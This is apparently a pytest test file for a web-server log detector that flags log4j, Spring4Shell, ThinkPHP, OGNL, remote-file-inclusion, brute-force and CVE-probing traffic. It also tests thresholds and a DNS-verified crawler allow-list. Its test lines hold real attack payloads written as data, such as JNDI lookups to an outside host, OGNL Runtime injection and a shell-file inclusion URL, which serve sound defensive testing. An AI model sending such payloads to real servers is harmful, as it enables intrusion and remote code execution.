"""Suspicious-activity rules on real-looking logs: every CrowdSec class warta checks,
lines out of order, state across incremental runs, de-duplicated findings, thresholds in
warta.yml and the allow-list."""

from __future__ import annotations

import sqlite3
from datetime import UTC, datetime

import pytest

from pipeline.commands.visitors import analyze
from pipeline.errors import ConfigError
from pipeline.visitors.allow import AllowList, Resolver
from pipeline.visitors.parse import Hit, LogFormat
from pipeline.visitors.rules import Detector
from tests.conftest import Project

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
FORMAT = LogFormat()


def req(
    path: str = "/",
    status: int = 200,
    *,
    ip: str = "198.51.100.7",
    method: str = "GET",
    protocol: str = "HTTP/1.1",
    agent: str = UA,
    referer: str = "-",
    second: int = 0,
    minute: int = 0,
    hour: int = 10,
) -> str:
    request = f"{method} {path} {protocol}".strip()
    return (
        f"{ip} - - [25/Nov/2026:{hour:02d}:{minute:02d}:{second:02d} +0800] "
        f'"{request}" {status} 100 "{referer}" "{agent}"'
    )


def hits(lines: list[str]) -> list[Hit]:
    parsed = [FORMAT.parse(text) for text in lines]
    assert all(isinstance(h, Hit) for h in parsed), parsed
    return parsed  # type: ignore[return-value]


def fired(lines: list[str], detector: Detector | None = None) -> set[str]:
    detector = detector or Detector()
    for hit in hits(lines):
        detector.add(hit)
    return {f.rule for f in detector.results()}


MUST = [
    # CrowdSec apache_log4j2_cve-2021-44228: in the path, the user agent or the referrer.
    ("log4j", [req("/?x=${jndi:ldap://198.51.100.9/a}")]),
    ("log4j", [req("/", agent="${jndi:ldap://198.51.100.9:1389/Exploit}")]),
    ("log4j", [req("/", referer="${${lower:j}ndi:${lower:r}mi://x/y}")]),
    ("log4j", [req("/?q=%24%7Bjndi%3Adns%3A%2F%2Fx%7D")]),
    ("spring4shell", [req("/?class.module.classLoader.resources.context.parent.pipeline=x")]),
    ("thinkphp", [req(r"/index.php?s=/Index/\think\app/invokefunction&function=phpinfo")]),
    ("ognl-injection", [req("/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/")]),
    ("ognl-injection", [req("/", agent="%{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}")]),
    ("backdoors", [req("/wp-content/uploads/c99.php", 404)]),
    ("backdoors", [req("/alfa.php", 404)]),
    ("open-proxy", [req("www.example.com:443", 400, method="CONNECT")]),
    ("open-proxy", [req("http://www.example.com/", 400)]),
    ("invalid-http-version", [req("/", 400, protocol="HTTP/1.7")]),
    ("invalid-http-version", [req("/", 400, protocol="HTTP/11.1")]),
    ("switching-agents", [req("/", agent=f"Mozilla/5.0 tool-{i}", second=i) for i in range(12)]),
    ("wordpress-user-enum", [req(f"/?author={i}", 301, second=i) for i in range(1, 8)]),
    ("brute-force", [req("/masuk", 200, method="POST", second=i) for i in range(7)]),
    ("brute-force", [req("/api/x", 401, method="POST", second=i) for i in range(7)]),
    ("brute-force", [req("/desk/", 403, method="POST", second=i) for i in range(7)]),
    ("remote-file-inclusion", [req("/index.php?page=http://198.51.100.9/shell.txt")]),
    ("remote-file-inclusion", [req("/?file=php://filter/resource=index")]),
    ("cve-probing", [req("/_ignition/execute-solution", 404)]),
    ("cve-probing", [req("/setup.cgi?next_file=netgear.cfg", 404)]),
    ("cve-probing", [req("/Telerik.Web.UI.WebResource.axd?type=rau", 404)]),
    ("cve-probing", [req("/pages/createpage-entervariables.action", 404)]),
    ("cve-probing", [req("/service/extension/backup/mboximport?account-name=admin", 404)]),
    ("cve-probing", [req("/static/..;/manager/html", 404)]),
    ("cve-probing", [req("/foo;/WEB-INF/web.xml", 404)]),
]
MUST_NOT = [
    ("log4j", [req("/berita/?q=harga+$+rupiah")]),
    ("log4j", [req("/", agent=UA, referer="https://www.google.com/search?q=jndi")]),
    ("spring4shell", [req("/layanan/class-action/")]),
    ("thinkphp", [req("/berita/think-about-it/")]),
    ("ognl-injection", [req("/cari?q=%7Bsidang%7D")]),
    ("ognl-injection", [req("/cari?q=biaya+%24100")]),
    ("backdoors", [req("/berita/shell-game/")]),
    ("backdoors", [req("/layanan/cmd-perkara/")]),
    ("open-proxy", [req("/")]),
    ("open-proxy", [req("/go?to=http://example.com/")]),
    ("invalid-http-version", [req("/", protocol="HTTP/2.0"), req("/", protocol="HTTP/1.0")]),
    ("invalid-http-version", [req("/", protocol="")]),
    ("switching-agents", [req("/", second=i) for i in range(30)]),
    ("switching-agents", [req("/", agent=f"Mozilla/5.0 tool-{i}", minute=i) for i in range(12)]),
    ("wordpress-user-enum", [req("/?author=1", 301, second=i) for i in range(10)]),
    ("wordpress-user-enum", [req("/berita/penulis-author/", second=i) for i in range(10)]),
    ("brute-force", [req("/masuk", 200, method="GET", second=i) for i in range(10)]),
    ("brute-force", [req("/masuk", 200, method="POST", minute=i) for i in range(10)]),
    ("brute-force", [req("/file.pdf", 403, second=i) for i in range(10)]),
    ("remote-file-inclusion", [req("/berita/?utm_source=https-newsletter")]),
    ("remote-file-inclusion", [req("/berita/", referer="http://198.51.100.9/")]),
    ("cve-probing", [req("/berita/ignition-pertama/")]),
    ("cve-probing", [req("/layanan/setup-cgi/")]),
]


@pytest.mark.parametrize(("rule", "lines"), MUST)
def test_rule_triggers(rule: str, lines: list[str]) -> None:
    assert rule in fired(lines)


@pytest.mark.parametrize(("rule", "lines"), MUST_NOT)
def test_rule_does_not_trigger(rule: str, lines: list[str]) -> None:
    assert rule not in fired(lines)


def test_out_of_order_lines_drain_buckets() -> None:
    # Real logs are out of order (a request is logged when it finishes). Eight requests
    # whose times alternate by a minute were reported as 303 requests in a minute.
    lines = [req(f"/p{i}", minute=i % 2) for i in range(8)]
    detector = Detector()
    for hit in hits(lines):
        detector.add(hit)
    assert detector.results() == []
    bucket = detector.buckets["aggressive-crawling"]["198.51.100.7"]
    # Left: the four requests of the second minute (the first minute's have leaked).
    assert (bucket.until - bucket.latest) * 5.0 == pytest.approx(4.0)
    # A burst logged out of order by a few seconds still overflows.
    burst = [req(f"/q{i}", second=(i * 7) % 10) for i in range(400)]
    assert "aggressive-crawling" in fired(burst)
    # An older file read after a newer one adds nothing it would not have added in order.
    newer = [req(f"/n{i}", minute=5, second=i % 60) for i in range(250)]
    older = [req(f"/o{i}", minute=0, second=i % 60) for i in range(250)]
    assert "aggressive-crawling" not in fired(newer + older)


def test_findings_are_dated_by_the_requests() -> None:
    detector = Detector()
    for hit in hits([req("/.env", 404, second=9), req("/.git/HEAD", 404, second=3)]):
        detector.add(hit)
    (finding,) = detector.results()
    assert finding.first.startswith("25/Nov/2026:10:00:03") and finding.count == 2
    assert finding.as_dict()["first_utc"] == "2026-11-25T02:00:03+00:00"
    assert finding.as_dict()["last_utc"] == "2026-11-25T02:00:09+00:00"


def _rows(project: Project) -> list[tuple[str, str, int, str, str]]:
    db = sqlite3.connect(project.root / ".warta/warta.sqlite")
    return db.execute(
        "SELECT ip, rule, count, first_at, last_at FROM visitors_findings ORDER BY ip, rule"
    ).fetchall()


def test_state_across_incremental_runs_and_no_duplicates(project: Project) -> None:
    log = project.root / "logs/access.log"
    log.parent.mkdir()
    # 8 distinct 404s now and 5 more a few seconds later, in the next run: together they
    # overflow `probing` (10), neither half alone does.
    log.write_text("".join(req(f"/x{i}", 404, second=i) + "\n" for i in range(8)))
    first = analyze(project.config, [log], incremental=True)
    assert first.findings == []
    with log.open("a") as handle:
        handle.write("".join(req(f"/y{i}", 404, second=10 + i) + "\n" for i in range(5)))
    second = analyze(project.config, [log], incremental=True)
    assert [f.rule for f in second.findings] == ["probing"]
    with log.open("a") as handle:  # the same address keeps probing: the finding grows
        handle.write("".join(req(f"/z{i}", 404, second=20 + i) + "\n" for i in range(3)))
    third = analyze(project.config, [log], incremental=True)
    assert [(f.rule, f.count) for f in third.findings] == [
        ("probing", second.findings[0].count + 3)
    ]
    rows = _rows(project)
    assert len(rows) == 1 and rows[0][2] == third.findings[0].count
    assert rows[0][3] == "2026-11-25T02:00:00+00:00"  # the first request in the bucket
    # Reading the whole log again (not incremental) finds the same finding: no new row.
    again = analyze(project.config, [log])
    assert [f.rule for f in again.findings] == ["probing"]
    assert len(_rows(project)) == 1


def test_thresholds_and_switches_in_warta_yml(project: Project) -> None:
    text = (project.root / "warta.yml").read_text()
    log = project.write("logs/a.log", "".join(req(f"/p{i}", second=i) + "\n" for i in range(40)))
    assert analyze(project.config, [log]).findings == []
    project.write(
        "warta.yml",
        text + "visitors:\n  rules:\n    aggressive-crawling: {capacity: 30, leak: 0.1}\n"
        "    sensitive-files: {enabled: false}\n",
    )
    log2 = project.write("logs/b.log", req("/.env", 404, ip="198.51.100.99") + "\n")
    assert [f.rule for f in analyze(project.config, [log]).findings] == ["aggressive-crawling"]
    assert analyze(project.config, [log2]).findings == []
    for bad, says in [
        ("    no-such-rule: {capacity: 1}\n", "unknown rule no-such-rule"),
        ("    probing: {capacity: 3, leak: 0}\n", "needs a leak above 0"),
        ("    probing: {capacity: -1}\n", "capacity"),
    ]:
        project.write("warta.yml", text + "visitors:\n  rules:\n" + bad)
        with pytest.raises(ConfigError) as caught:
            _ = project.config
        assert says in str(caught.value)


def fake_dns(reverse: dict[str, list[str]], forward: dict[str, list[str]]) -> Resolver:
    return Resolver(lambda a: reverse.get(a, []), lambda n: forward.get(n, []))


def test_allow_list_networks_loopback_and_verified_crawlers(project: Project) -> None:
    text = (project.root / "warta.yml").read_text()
    project.write("warta.yml", text + 'visitors:\n  allow: ["203.0.113.0/24", "2001:db8:1::/48"]\n')
    burst = [
        req(f"/p{i}", ip=ip, agent=agent, second=i // 40)
        for ip, agent in [
            ("203.0.113.40", UA),  # the court's own network
            ("2001:db8:1::9", UA),
            ("127.0.0.1", UA),  # loopback: always
            ("::1", UA),
            ("66.249.66.1", GOOGLEBOT),  # a real Googlebot (reverse and forward agree)
            ("198.51.100.1", GOOGLEBOT),  # says Googlebot, reverse name is not Google's
            ("198.51.100.2", GOOGLEBOT),  # reverse name claims Google, forward disagrees
            ("198.51.100.3", UA),
        ]
        for i in range(400)
    ]
    log = project.write("logs/a.log", "\n".join(burst) + "\n")
    dns = fake_dns(
        {
            "66.249.66.1": ["crawl-66-249-66-1.googlebot.com"],
            "198.51.100.1": ["host.example.net"],
            "198.51.100.2": ["crawl-1.googlebot.com.evil.example", "crawl-2.googlebot.com"],
        },
        {
            "crawl-66-249-66-1.googlebot.com": ["66.249.66.1"],
            "crawl-2.googlebot.com": ["66.249.66.2"],
        },
    )
    report = analyze(project.config, [log], resolver=dns)
    assert sorted({f.ip for f in report.findings}) == [
        "198.51.100.1",
        "198.51.100.2",
        "198.51.100.3",
    ]
    assert "66.249.66.1" in report.allowed and "127.0.0.1" in report.allowed
    # Without a resolver a crawler's claim is not believed.
    plain = analyze(project.config, [log])
    assert "66.249.66.1" in {f.ip for f in plain.findings}


def test_allow_list_refuses_bad_networks(project: Project) -> None:
    text = (project.root / "warta.yml").read_text()
    project.write("warta.yml", text + 'visitors:\n  allow: ["10.0.0.0/33"]\n')
    with pytest.raises(ConfigError) as caught:
        _ = project.config
    assert "10.0.0.0/33" in str(caught.value)
    allow = AllowList(["10.0.0.0/8"])  # an IPv4 address written as IPv6 is the same host
    assert allow.listed("::ffff:10.1.1.1") and allow.listed("127.0.0.5")
    assert not allow.listed("11.0.0.1") and not allow.listed(".......")


def test_incidents_use_the_request_dates(project: Project) -> None:
    from pipeline.tickets.incidents import visitor_conditions

    log = project.write("logs/a.log", req("/.env", 404) + "\n")
    analyze(project.config, [log], now=datetime(2027, 1, 1, tzinfo=UTC))
    db = sqlite3.connect(project.root / ".warta/warta.sqlite")
    from datetime import timedelta

    # Recorded in 2027, but the requests were in November 2026: not suspicious "now".
    assert visitor_conditions(db, datetime(2027, 1, 1, tzinfo=UTC), timedelta(days=7)) == []
    assert visitor_conditions(db, datetime(2026, 11, 26, tzinfo=UTC), timedelta(days=7))


def test_compact_buckets_keep_dates_and_state(project: Project) -> None:
    from pipeline.visitors.rules import as_logged

    assert as_logged(1795572000.0, "01/Jan/2026:00:00:00 +0800") == "25/Nov/2026:10:00:00 +0800"
    assert as_logged(1795572000.0, "2026-01-01T00:00:00Z") == "2026-11-25T02:00:00+00:00"
    # A rule counting distinct agents makes its bucket at the second agent, with the
    # first one poured at its own time: the finding is dated by the first request.
    detector = Detector()
    agents = [req("/", agent=f"Mozilla/5.0 tool-{i}", second=i) for i in range(12)]
    for hit in hits(agents):
        detector.add(hit)
    (finding,) = [f for f in detector.results() if f.rule == "switching-agents"]
    assert finding.first == "25/Nov/2026:10:00:00 +0800" and finding.count == 12
    # aggressive-crawling keeps its buckets in arrays: a burst split over two incremental
    # runs still overflows, and the finding starts at the burst's first request.
    log = project.root / "logs/access.log"
    log.parent.mkdir()
    log.write_text("".join(req(f"/a{i}", second=i // 40) + "\n" for i in range(200)))
    assert analyze(project.config, [log], incremental=True).findings == []
    with log.open("a") as handle:
        handle.write("".join(req(f"/b{i}", second=5 + i // 40) + "\n" for i in range(200)))
    (burst,) = analyze(project.config, [log], incremental=True).findings
    assert burst.rule == "aggressive-crawling" and burst.first == "25/Nov/2026:10:00:00 +0800"


def test_distinct_agent_buckets_are_kept_by_tokens_every_run_reads_alike(
    project: Project,
) -> None:
    """A switching-agents bucket kept for the next incremental run holds tokens that do not
    depend on the process (``hash()`` of a string differs from run to run, so the agents
    seen before a restart would have counted as new ones again)."""
    import json
    import os
    import subprocess
    import sys

    from pipeline.visitors.rules import agent_token

    agents = ["tool-a/1.0", "tool-b/1.0", "tool-c/1.0"]
    log = project.root / "logs/access.log"
    log.parent.mkdir()
    log.write_text("".join(req("/", agent=a, second=i) + "\n" for i, a in enumerate(agents)))
    analyze(project.config, [log], incremental=True)
    db = sqlite3.connect(project.root / ".warta/warta.sqlite")
    (seen,) = db.execute(
        "SELECT seen FROM visitors_buckets WHERE rule = 'switching-agents'"
    ).fetchone()
    assert set(json.loads(seen)) == {str(agent_token(a)) for a in agents}
    code = "from pipeline.visitors.rules import agent_token; print(agent_token('tool-a/1.0'))"
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed}
        out = subprocess.run(
            [sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True
        )
        assert out.stdout.strip() == str(agent_token("tool-a/1.0"))


def test_switching_agents_counts_the_first_agent_once() -> None:
    """Ten agents and the first one again are ten distinct agents (capacity 10: no
    finding); an eleventh is one too many. The first agent's bucket used to forget it."""
    ten = [req("/", agent=f"tool-{i}") for i in range(10)]
    assert "switching-agents" not in fired([*ten, req("/", agent="tool-0")])
    assert "switching-agents" in fired([*ten, req("/", agent="tool-10")])
